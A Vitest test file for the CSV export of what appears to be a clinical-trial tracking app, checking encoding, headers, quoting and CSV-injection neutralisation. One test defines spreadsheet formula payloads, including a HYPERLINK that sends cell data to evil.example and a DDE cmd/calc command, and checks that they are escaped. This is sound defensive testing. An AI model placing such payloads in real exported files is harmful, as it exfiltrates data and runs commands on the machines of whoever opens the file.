import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { createTestApp } from './fakes/testApp'

describe('CSV export', () => {
  it('writes every row of the filtered list (all pages) as UTF-8 with BOM and Korean headers', async () => {
    const app = await createTestApp({ trials: 250 })
    app.core.trials[1].note = '환자 의뢰함, 외래 "3/12"'
    const result = await app.handlers.exportCsv({ query: { withinDays: null, limit: 20, offset: 40 }, language: 'ko' })
    expect(result).toMatchObject({ ok: true, data: { rows: 250 } })
    const path = (result as { data: { path: string } }).data.path
    const bytes = readFileSync(path)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const lines = bytes.toString('utf8').slice(1).split('\r\n').filter(Boolean)
    expect(lines[0]).toBe('ID,출처,과제명,영문 과제명,연구책임기관,진료과,임상시험 단계,연구 종류,연구 범위,진행 상태,변경 종류,변경 일시,내 메모')
    expect(lines).toHaveLength(251)
    // Commas and quotes inside a title are quoted, so spreadsheet columns stay aligned.
    expect(lines[1]).toBe('icreat:C000001,icreat,"임상시험 1, ""따옴표"" 포함",Trial 1,서울대학교병원,내과,,,,,new,2025-01-02T03:04:05.000Z,')
    // The private note is a column (quoted: it has a comma and quotes).
    expect(lines[2].endsWith('2025-01-02T03:04:05.000Z,"환자 의뢰함, 외래 ""3/12"""')).toBe(true)
    expect(lines[250].startsWith('icreat:C000250,')).toBe(true)
  })

  it('neutralises cells a spreadsheet would run as formulas (CSV injection), keeping the text otherwise identical', async () => {
    const app = await createTestApp({ trials: 1 })
    const attack = '=HYPERLINK("http://evil.example/?d="&A1,"상세 보기")'
    Object.assign(app.core.trials[0], {
      title: attack, titleEn: '+1+cmd|\' /C calc\'!A0', institution: '-2+3', department: '@SUM(1+1)*cmd', note: '\t=1+1',
    })
    const result = await app.handlers.exportCsv({ query: { withinDays: null }, language: 'en' })
    const text = readFileSync((result as { data: { path: string } }).data.path, 'utf8')
    const row = text.slice(1).split('\r\n')[1]
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""상세 보기"")"`)
    expect(row).toContain("'+1+cmd|' /C calc'!A0")
    expect(row).toContain(",'-2+3,'@SUM(1+1)*cmd,")
    expect(row).toContain("'\t=1+1")
    // No cell of the row starts with a formula character any more.
    expect(row.split(',').some((cell) => /^"?[=+\-@\t\r]/.test(cell))).toBe(false)
  })

  it('uses English headers on request, and writes nothing when the save dialog is cancelled', async () => {
    const app = await createTestApp({ trials: 3 })
    const result = await app.handlers.exportCsv({ query: {}, language: 'en' })
    const path = (result as { data: { path: string } }).data.path
    expect(readFileSync(path, 'utf8').split('\r\n')[0]).toBe('\uFEFFID,Source,Title,English title,Institution,Department,Phase,Study type,Scope,Status,Change,Changed at,My note')
    app.saveDialog.mockResolvedValueOnce(null)
    expect(await app.handlers.exportCsv({ query: {}, language: 'en' })).toEqual({ ok: true, data: { path: null, rows: 0 } })
  })
})
